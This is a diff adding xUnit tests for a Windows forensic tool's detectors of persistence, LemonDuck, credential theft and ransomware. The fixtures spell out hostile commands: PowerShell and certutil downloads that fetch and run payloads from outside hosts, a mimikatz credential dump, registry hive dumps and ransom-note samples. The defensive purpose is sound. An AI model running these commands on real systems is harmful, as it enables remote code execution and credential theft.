@@ -1,0 +1,242 @@
+using Afterpatch.Analysis.Detectors.Credentials;
+using Afterpatch.Analysis.Detectors.Defence;
+using Afterpatch.Analysis.Detectors.LemonDuck;
+using Afterpatch.Analysis.Detectors.Persistence;
+using Afterpatch.Analysis.Detectors.Ransomware;
+using Afterpatch.Core;
+using Xunit;
+using Record = Afterpatch.Core.Record;
+using static Afterpatch.Analysis.Tests.Detectors.Persistence.Facts;
+
+namespace Afterpatch.Analysis.Tests.Detectors.Persistence;
+
+public sealed class DetectorTests
+{
+    [Theory]
+    [InlineData(@"C:\TMP\mim.exe", "sekurlsa::LogonPasswords > C:\\TMP\\o.txt")]
+    [InlineData("powershell.exe", "-nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"")]
+    [InlineData(@"C:\Users\Public\svchost.exe", "")]
+    [InlineData("certutil.exe", "-urlcache -split -f http://203.0.113.7/a.exe C:\\a.exe")]
+    [InlineData("mshta.exe", "http://203.0.113.7/a.hta")]
+    public void Tasks_that_run_an_intruders_command_are_found(string command, string arguments)
+    {
+        var finding = Assert.Single(Run(new ScheduledTaskDetector(), Task(@"\Update", command, arguments)));
+        Assert.Equal("persistence.scheduled-task", finding.Detector);
+        Assert.True(finding.Severity >= Severity.Medium);
+        Assert.Equal(FindingState.Active, finding.State);
+    }
+
+    [Theory]
+    [InlineData(@"%windir%\system32\defrag.exe", "-c -h -k -g -$")]
+    [InlineData(@"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/c")]
+    [InlineData(@"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", "")]
+    [InlineData("powershell.exe", @"-NoProfile -File ""C:\Program Files\Microsoft\Exchange Server\V15\Scripts\Backup.ps1""")]
+    [InlineData("%windir%\\system32\\rundll32.exe", "%windir%\\system32\\Startupscan.dll,SusRunTask")]
+    public void Ordinary_tasks_stay_quiet(string command, string arguments) =>
+        Assert.Empty(Run(new ScheduledTaskDetector(), Task(@"\Microsoft\Windows\Some", command, arguments)));
+
+    [Fact]
+    public void Lemon_ducks_flag_and_worker_tasks_are_told_by_name()
+    {
+        var worker = "-w hidden -c \"function a($u){$d=(New-Object Net.WebClient).DownloadData($u);$c=$d.count;if($c -gt 173){$b=$d[173..$c];$p=New-Object Security.Cryptography.RSAParameters;"
+            + "$p.Modulus=[convert]::FromBase64String('2mWo17uXvG1BXpmdgv8v/3NTmnNubHtV62fWrk4jR7rpfqOLdHa10=');$p.Exponent=0x01,0x00,0x01;IEX(-join[char[]]$b)}};a('http://t.amynx.com/a.jsp?x')\"";
+        var findings = Run(new ScheduledTaskDetector(), Task(@"\blackball", "blackball"), Task(@"\MicroSoft\Windows\x7Yk2b", "powershell", worker));
+        Assert.Equal(2, findings.Count);
+        Assert.All(findings, finding => Assert.Equal("lemonduck.task", finding.Detector));
+    }
+
+    [Fact]
+    public void A_deleted_task_is_removed_and_a_task_without_descriptor_is_hidden()
+    {
+        var ordinary = Enumerable.Range(0, 12).Select(i => Task($@"\t{i}", @"%windir%\system32\a.exe", "", "taskcache", descriptor: true)).Cast<Record>().ToList();
+        var findings = Run(new ScheduledTaskDetector(), [.. ordinary, Task(@"\gone", @"C:\Windows\Temp\a.exe", "", "taskcache", deleted: true), Task(@"\ghost", @"%windir%\system32\b.exe", "", "taskcache", descriptor: false)]);
+        Assert.Equal(FindingState.Removed, findings.Single(finding => finding.Subject.Value == @"\gone").State);
+        Assert.Equal("persistence.hidden-task", findings.Single(finding => finding.Subject.Value == @"\ghost").Detector);
+        Assert.Equal(2, findings.Count);
+    }
+
+    [Fact]
+    public void A_task_that_only_an_event_tells_of_is_judged()
+    {
+        var registered = Event("Security", 4698, null, ("TaskName", @"\x"), ("TaskContent", "<Task><Actions><Exec><Command>C:\\Users\\Public\\a.exe</Command></Exec></Actions></Task>"));
+        Assert.Equal(FindingState.Unknown, Assert.Single(Run(new ScheduledTaskDetector(), registered)).State);
+        Assert.Equal(FindingState.Removed, Assert.Single(Run(new ScheduledTaskDetector(), registered, Event("Security", 4699, null, ("TaskName", @"\x")))).State);
+    }
+
+    [Fact]
+    public void A_bound_script_consumer_is_found_and_windows_own_is_not()
+    {
+        var planted = Run(new WmiSubscriptionDetector(),
+            Wmi("filter", "__EventFilter", "Trigger", ("Name", "Trigger"), ("Query", "SELECT * FROM __InstanceModificationEvent WITHIN 60")),
+            Wmi("consumer", "ActiveScriptEventConsumer", "Killer", ("Name", "Killer"), ("ScriptText", "CreateObject(\"WScript.Shell\").Run \"calc\"")),
+            Wmi("binding", "__FilterToConsumerBinding", "Trigger -> Killer", ("Filter", "__EventFilter.Name=\"Trigger\""), ("Consumer", "ActiveScriptEventConsumer.Name=\"Killer\"")));
+        var finding = Assert.Single(planted);
+        Assert.Equal("persistence.wmi-subscription", finding.Detector);
+        Assert.Equal(FindingState.Active, finding.State);
+        Assert.Equal(Severity.High, finding.Severity);
+        Assert.Empty(Run(new WmiSubscriptionDetector(),
+            Wmi("filter", "__EventFilter", "SCM Event Log Filter", ("Query", "select * from MSFT_SCMEventLogEvent")),
+            Wmi("consumer", "NTEventLogEventConsumer", "SCM Event Log Consumer"),
+            Wmi("binding", "__FilterToConsumerBinding", "x", ("Filter", "__EventFilter.Name=\"SCM Event Log Filter\""), ("Consumer", "NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\""))));
+    }
+
+    [Fact]
+    public void Lemon_ducks_pair_of_filter_and_consumer_is_told_by_name()
+    {
+        var findings = Run(new WmiSubscriptionDetector(),
+            Wmi("filter", "__EventFilter", "blackball", ("Query", "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'")),
+            Wmi("filter", "__EventFilter", "fQx81kz", ("Query", "SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'")),
+            Wmi("consumer", "CommandLineEventConsumer", "cQx81kz", ("ExecutablePath", @"c:\windows\system32\cmd.exe"), ("CommandLineTemplate", "/c powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://t.zz3r0.com/aa.jsp')")),
+            Wmi("binding", "__FilterToConsumerBinding", "b", ("Filter", "__EventFilter.Name=\"fQx81kz\""), ("Consumer", "CommandLineEventConsumer.Name=\"cQx81kz\"")));
+        Assert.Equal(2, findings.Count(finding => finding.Detector == "lemonduck.wmi"));
+    }
+
+    [Fact]
+    public void Services_are_judged_by_what_they_run()
+    {
+        var findings = Run(new ServiceDetector(),
+            Item("service", "abcdefg", "unknown", ("imagePath", @"\\127.0.0.1\ADMIN$\1f3a9c0.exe")),
+            Item("service", "W3SVC", "yes", ("imagePath", @"%windir%\system32\svchost.exe -k iissvcs"), ("serviceDll", @"%windir%\system32\inetsrv\iisw3adm.dll")),
+            Item("service", "McShield", "unknown", ("imagePath", "\"C:\\Program Files\\McAfee\\mcshield.exe\"")),
+            Item("service", "Beep", "unknown", ("type", "kernel driver")),
+            Event("System", 7045, null, ("ServiceName", "x"), ("ImagePath", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand SQBFAFgA")));
+        Assert.Equal(["abcdefg", "x"], findings.Select(finding => finding.Subject.Value));
+    }
+
+    [Fact]
+    public void Autostart_points_with_their_usual_content_are_quiet()
+    {
+        Assert.Empty(Run(new AutostartDetector(),
+            Item("autostart", @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell", "unknown", ("location", "Winlogon"), ("command", "explorer.exe")),
+            Item("autostart", @"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Userinit", "unknown", ("location", "Winlogon"), ("command", @"C:\Windows\system32\userinit.exe,")),
+            Item("autostart", @"HKLM\SYSTEM\ControlSet001\Control\Lsa\Security Packages", "unknown", ("location", "LSA packages"), ("command", "kerberos\nmsv1_0\nschannel\nwdigest\ntspkg\npku2u")),
+            Item("autostart", @"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\VMware User Process", "unknown", ("location", "Run"), ("command", "\"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe\" -n vmusr"))));
+        Assert.Equal(3, Run(new AutostartDetector(),
+            Item("autostart", @"HKLM\SYSTEM\ControlSet001\Control\Lsa\Security Packages", "unknown", ("location", "LSA packages"), ("command", "kerberos\nmimilib")),
+            Item("autostart", @"HKLM\X\Image File Execution Options\sethc.exe\Debugger", "unknown", ("location", "Image file execution options"), ("command", @"C:\windows\system32\cmd.exe")),
+            Item("autostart", @"HKLM\X\Run\u", "unknown", ("location", "Run"), ("command", @"C:\Users\Public\u.exe"))).Count);
+    }
+
+    [Fact]
+    public void Iis_items_that_no_healthy_server_has_are_found()
+    {
+        var findings = Run(new IisDetector(),
+            Item("iis-native-module", "HttpLogModule", "unknown", ("image", @"C:\Windows\Temp\logging.dll"), ("source", "live")),
+            Item("iis-native-module", "UriCacheModule", "yes", ("image", @"%windir%\System32\inetsrv\cachuri.dll"), ("source", "live")),
+            Item("iis-native-module", "AvModule", "unknown", ("image", @"C:\Program Files\Vendor\av.dll"), ("source", "live")),
+            Item("virtual-directory", "Default Web Site/owa/x", "unknown", ("physicalPath", @"C:\ProgramData\COM"), ("source", "live")),
+            Item("iis-handler", "j", "unknown", ("path", "*.jpg"), ("type", "System.Web.UI.PageHandlerFactory"), ("source", "live")));
+        Assert.Equal(["persistence.iis-module", "persistence.virtual-directory", "persistence.iis-module"], findings.Select(finding => finding.Detector));
+        Assert.All(findings, finding => Assert.Equal(Severity.High, finding.Severity));
+    }
+
+    [Fact]
+    public void A_transport_agent_beyond_exchanges_own_is_found()
+    {
+        var findings = Run(new TransportAgentDetector(),
+            Item("transport-agent", "Transport Rule Agent", "yes", ("assemblyPath", @"C:\Program Files\Microsoft\Exchange Server\V15\TransportRoles\agents\Rule\a.dll"), ("enabled", "true")),
+            Item("transport-agent", "Content Filter Security Agent", "unknown", ("assemblyPath", @"C:\Windows\Temp\b.dll"), ("enabled", "true")));
+        Assert.Equal(Severity.High, Assert.Single(findings).Severity);
+    }
+
+    [Fact]
+    public void Accounts_that_were_hijacked_hidden_or_named_by_malware_are_found()
+    {
+        var findings = Run(new LocalAccountDetector(),
+            Item("account", "Administrator", "yes", ("rid", "500"), ("disabled", "no"), ("groups", "Administrators")),
+            Item("account", "Guest", "yes", ("rid", "501"), ("ridInData", "500"), ("disabled", "no")),
+            Item("account", "netcat", "unknown", ("rid", "1005"), ("disabled", "no"), ("groups", "Administrators")),
+            Item("account", "svc_backup", "unknown", ("rid", "1006"), ("disabled", "no"), ("groups", "Administrators")));
+        Assert.Equal(["Guest", "netcat"], findings.Select(finding => finding.Subject.Value));
+    }
+
+    [Fact]
+    public void Weakened_protection_is_found_and_microsofts_advice_is_not()
+    {
+        var findings = Run(new DefenceDetector(),
+            Item("defender-exclusion", @"c:\", "unknown", ("type", "paths"), ("list", "none")),
+            Item("defender-exclusion", "EdgeTransport.exe", "yes", ("type", "processes"), ("list", "current")),
+            Item("defender-exclusion", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "unknown", ("type", "processes"), ("list", "withdrawn")),
+            Item("setting", @"HKLM\SYSTEM\X\WDigest\UseLogonCredential", "unknown", ("value", "UseLogonCredential"), ("data", "1")),
+            Item("firewall-rule", "{1}", "unknown", ("rule", "v2.10|Action=Block|Active=TRUE|Dir=In|Protocol=6|LPort=445|Name=deny445|")),
+            Item("port-proxy", "0.0.0.0/65529", "unknown", ("rule", "1.1.1.1/53")),
+            Item("rewrite-rule", "X-BEResource Abort - inbound", "unknown", ("match", ".*"), ("conditions", "{HTTP_COOKIE} ~ X-BEResource=(.+)/(.+)~(.+)"), ("action", "AbortRequest")));
+        Assert.Equal(["defence.defender-exclusion", "defence.defender-exclusion", "credentials.wdigest", "lemonduck.network", "lemonduck.network", "defence.mitigation-rules"], findings.Select(finding => finding.Detector));
+        Assert.Equal([Severity.High, Severity.Low], findings.Take(2).Select(finding => finding.Severity));
+        Assert.Equal(Severity.Informational, findings[^1].Severity);
+    }
+
+    [Fact]
+    public void Hives_outside_their_place_are_theft_and_inside_they_are_not()
+    {
+        Assert.Empty(Run(new StolenSecretsDetector(), Hive("sam", @"C:\Windows\System32\config\SAM"), Hive("system", @"C:\Windows\System32\config\SYSTEM"), Hive("user", @"C:\Temp\a.dat")));
+        var finding = Assert.Single(Run(new StolenSecretsDetector(), Hive("sam", @"C:\Windows\Temp\a.tmp"), Hive("system", @"C:\Windows\Temp\b.tmp"), Hive("security", @"C:\Windows\Temp\c.tmp")));
+        Assert.Equal(Severity.Critical, finding.Severity);
+        Assert.Equal("credentials.hives-saved", finding.Detector);
+        Assert.Equal(3, finding.Evidence.Count);
+    }
+
+    [Fact]
+    public void Dumps_archives_and_scripts_are_judged_by_content()
+    {
+        var at = new EvidencePointer(@"C:\inetpub\a");
+        var findings = Run(new StolenSecretsDetector(),
+            new MemoryDump { At = at, Path = @"C:\root\x.bin", SizeBytes = 1, WrittenUtc = null, Modules = ["lsass.exe", "ntdll.dll", "lsasrv.dll"] },
+            new MemoryDump { At = at, Path = @"C:\root\y.dmp", SizeBytes = 1, WrittenUtc = null, Modules = ["w3wp.exe", "ntdll.dll"] },
+            new ArchiveListing { At = at, Path = @"C:\x.cab", Format = "cab", SizeBytes = 1, Members = ["ip.txt", "arp.txt", "system", "security"] },
+            new ArchiveListing { At = at, Path = @"C:\y.zip", Format = "zip", SizeBytes = 1, Members = ["readme.md", "system.dll"] },
+            new LooseText { At = at, Path = @"C:\Windows\Temp\xx.bat", Role = "script", Text = "reg save hklm\\sam sam.h\r\nreg save hklm\\system system.h\r\nreg save hklm\\security security.h" },
+            new LooseText { At = at, Path = @"C:\scripts\backup.bat", Role = "script", Text = "robocopy D:\\data E:\\backup /MIR" });
+        Assert.Equal(["credentials.lsass-dump", "credentials.archive", "credentials.dump-script"], findings.Select(finding => finding.Detector));
+    }
+
+    [Fact]
+    public void Ransomware_is_told_by_its_marks_notes_and_service()
+    {
+        var at = new EvidencePointer(@"C:\a");
+        var findings = Run(new RansomwareDetector(),
+            new MarkedFile { At = at, Path = @"D:\data\a.docx.CRYPT", Mark = "DEARCRY!", SizeBytes = 5 },
+            new LooseText { At = at, Path = @"C:\readme.txt", Role = "note", Text = "Your file has been encrypted!\nkonedieyp@airmail.cc or uenwonken@memail.com" },
+            new LooseText { At = at, Path = @"C:\decrypt_file.TxT", Role = "note", Text = "send to 1Lf8ZzcEhhRiXpk6YNQFpCJcUisiXb34FT" },
+            new LooseText { At = at, Path = @"C:\setup\readme.txt", Role = "note", Text = "This product is licensed" });
+        Assert.Equal(["ransomware.black-kingdom", "ransomware.dearcry", "ransomware.dearcry"], findings.Select(finding => finding.Detector).Order(StringComparer.Ordinal));
+    }
+
+    [Fact]
+    public void Bulk_deletion_of_rivals_is_told_and_an_administrators_single_deletion_is_not()
+    {
+        var start = new DateTime(2021, 3, 20, 1, 0, 0, DateTimeKind.Utc);
+        var names = new[] { "Mysa", "Mysa1", "Sorry", "Oracle Java Update", "ok", "WindowsUpdate1", "Update2" };
+        var burst = names.Select((name, i) => (Record)Event("Security", 4699, start.AddSeconds(i), ("TaskName", $@"\{name}")));
+        Assert.Equal("lemonduck.competitor-cleanup", Assert.Single(Run(new LemonDuckDetector(KnowledgeBase.Embedded), burst)).Detector);
+        Assert.Empty(Run(new LemonDuckDetector(KnowledgeBase.Embedded), Event("Security", 4699, start, ("TaskName", @"\Update"))));
+    }
+
+    [Fact]
+    public void A_closed_hole_is_a_lead_alone_and_a_trace_beside_others()
+    {
+        var setting = Item("setting", @"HKLM\SYSTEM\X\LanmanServer\Parameters\DisableCompression", "unknown", ("value", "DisableCompression"), ("data", "1"));
+        Assert.Equal(Severity.Medium, Assert.Single(Run(new LemonDuckDetector(KnowledgeBase.Embedded), setting)).Severity);
+        Assert.Equal(Severity.High, Assert.Single(Run(new LemonDuckDetector(KnowledgeBase.Embedded), setting, Task(@"\blackball", "blackball"))).Severity);
+    }
+
+    [Fact]
+    public void Known_names_count_only_in_their_folders()
+    {
+        var at = new EvidencePointer(@"C:\a");
+        MarkedFile File(string path) => new() { At = at, Path = path, SizeBytes = 1 };
+        var findings = Run(new KnownFileDetector(FileIndicators.Embedded), File(@"C:\Windows\Temp\m6.bin"), File(@"C:\firmware\m6.bin"), File(@"C:\inetpub\wwwroot\ChackLogsPL.aspx"), File(@"C:\x\errorFE.aspx"));
+        Assert.Equal(["lemonduck.file", "ransomware.black-kingdom"], findings.Select(finding => finding.Detector));
+    }
+
+    [Fact]
+    public void Every_finding_has_a_title_in_both_languages()
+    {
+        foreach (var language in (string[])["en", "fr"])
+        {
+            var texts = KnowledgeBase.Embedded.Texts(language);
+            foreach (var id in (string[])["persistence.scheduled-task", "persistence.wmi-subscription", "lemonduck.task", "credentials.hives-saved", "ransomware.dearcry", "defence.mitigation-rules", "intrusion.known-file"])
+                Assert.True(texts.Has($"finding.{id}.title"));
+        }
+    }
+}
